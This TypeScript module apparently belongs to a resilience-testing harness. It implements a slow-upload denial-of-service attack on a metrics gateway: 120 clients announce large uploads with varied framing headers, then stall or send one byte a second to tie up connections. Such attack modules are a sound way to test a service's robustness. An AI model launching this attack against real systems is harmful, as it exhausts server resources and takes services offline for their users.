import type { Attack } from '../../attack.ts';
import { closed, pause, readAndCount, swarm } from '../../client/swarm.ts';

const head = (client: number, more: string): string =>
  `POST /metrics/job/stalled-${client} HTTP/1.1\r\nHost: gateway\r\n${more}\r\n`;

/** What is sent before the client falls silent. */
const BEGINNINGS = [
  (client: number, length: number) => head(client, `Content-Length: ${length}\r\n`),
  (client: number, length: number) => `${head(client, `Content-Length: ${length + 4}\r\n`)}a 1\n`,
  (client: number, length: number) => `${head(client, 'Transfer-Encoding: chunked\r\n')}${length.toString(16)}\r\n`,
  (client: number, length: number) => head(client, `Content-Encoding: gzip\r\nContent-Length: ${length}\r\n`),
  (client: number, length: number) =>
    `${head(client, `Content-Length: ${length + 900_000}\r\n`)}${'# filler\n'.repeat(100_000)}`,
  (client: number, length: number) => head(client, `Expect: 100-continue\r\nContent-Length: ${length}\r\n`),
  (client: number) => head(client, 'Content-Encoding: snappy\r\nTransfer-Encoding: chunked\r\n'),
];
const LARGEST = 15_800_000;

export const stalledUploads: Attack = {
  what: 'uploads that are announced as large and stop, or continue with one byte a second',
  against: 'plain',
  clients: 120,
  start: async (target, signal) => {
    // A client that is refused announces half as much: what the others have left is taken as well.
    const lengths = Array.from({ length: target.clients }, () => LARGEST);
    return swarm(target, signal, async (client) => {
      const length = lengths[client.index] ?? LARGEST;
      lengths[client.index] = Math.max(Math.floor(length / 2), 1);
      const socket = await client.connect();
      readAndCount(client, socket);
      const beginning = BEGINNINGS[client.index % BEGINNINGS.length];
      socket.write(beginning?.(client.index, length) ?? '');
      if (client.index % 2 === 0) {
        while (!socket.closed && !signal.aborted) {
          await pause(client, 1_000);
          socket.write('\n');
        }
      }
      await closed(socket);
    });
  },
};
